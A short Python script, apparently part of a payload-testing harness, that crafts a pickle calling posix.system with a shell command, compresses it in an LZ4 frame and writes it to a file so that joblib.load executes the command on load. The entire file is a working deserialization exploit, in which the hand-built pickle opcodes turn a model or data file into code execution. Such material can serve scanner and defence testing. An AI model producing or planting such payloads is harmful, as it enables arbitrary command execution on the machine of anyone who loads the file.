# joblib.load sniffs an LZ4 frame (b'\x04\x22\x4d\x18') and unpickles what it holds (needs the lz4 package)
from h import *
import lz4.frame
def evil(n):
    return b'\x80\x02cposix\nsystem\nX'+struct.pack('<I',len(sh(n)))+sh(n).encode()+b'\x85R.'
open('joblib_payload.lz4','wb').write(lz4.frame.compress(evil(5)))
report('joblib_payload.lz4',5,'joblib')
